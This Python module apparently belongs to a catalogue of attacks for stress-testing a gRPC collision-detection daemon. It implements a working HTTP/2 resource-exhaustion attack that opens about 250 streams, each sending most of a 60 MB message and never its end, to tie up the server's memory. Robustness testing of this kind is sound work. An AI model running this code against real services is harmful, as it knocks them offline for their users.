"""A peer that speaks HTTP/2 and keeps to the windows that it is given (RFC 9113, section 5.2)."""

import struct

from attacks.catalogue import APART, attack
from attacks.http2 import DATA, MAX_FRAME, PING, RESET, SETTINGS, WINDOW_UPDATE, Http2, frame

DETECT = "/collided.v1.CollisionService/DetectFrame"
MESSAGE = 60 << 20  # bytes, less than the largest that the daemon takes
CALLS = 250
ACK, INITIAL_WINDOW = 1, 4  # a flag and a setting
HEAD = 9


class Uploads(Http2):
    """Calls whose messages never end."""

    def __init__(self, target):
        super().__init__(target, reads=False)
        self.initial = self.window = 65535
        self.windows = {}  # by stream
        self.unread = b""

    def begin(self):
        stream = self.next
        self.send(self.headers(DETECT))
        self.windows[stream] = self.initial
        self.send_data(stream, struct.pack(">BI", 0, MESSAGE))

    def send_data(self, stream, data):
        self.send(frame(DATA, 0, stream, data))
        self.windows[stream] -= len(data)
        self.window -= len(data)

    def room(self, stream):
        return min(MAX_FRAME, self.windows.get(stream, 0), self.window)

    def take(self, milliseconds):
        """What has come, which is waited for so long."""
        while self.readable.poll(milliseconds):
            self.unread += self.receive()
            milliseconds = 0
        while len(self.unread) >= HEAD:
            end = HEAD + int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < end:
                return
            kind, flags, stream = struct.unpack(">BBI", self.unread[3:HEAD])
            self.heed(kind, flags, stream, self.unread[HEAD:end])
            self.unread = self.unread[end:]

    def heed(self, kind, flags, stream, body):
        if kind == SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", body):
                if name == INITIAL_WINDOW:
                    self.windows = {one: window + value - self.initial for one, window in self.windows.items()}
                    self.initial = value
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, body))
        elif kind == WINDOW_UPDATE and stream == 0:
            self.window += int.from_bytes(body, "big")
        elif kind == WINDOW_UPDATE and stream in self.windows:
            self.windows[stream] += int.from_bytes(body, "big")
        elif kind == RESET:
            self.windows.pop(stream, None)


@attack(APART)
def unfinished_messages(target, told, over):
    """Hundreds of calls at once, each of which sends a large message as fast as it may, and not its end."""
    with Uploads(target) as peer:
        left = {}
        while not over.is_set():
            peer.take(10)
            while len(peer.windows) < CALLS:
                left[peer.next] = MESSAGE - (1 << 20)
                peer.begin()
                told["calls"] += 1
            for stream in list(peer.windows):
                while (size := min(left[stream], peer.room(stream))) > 0:
                    peer.send_data(stream, bytes(size))
                    left[stream] -= size
                    told["bytes"] += size
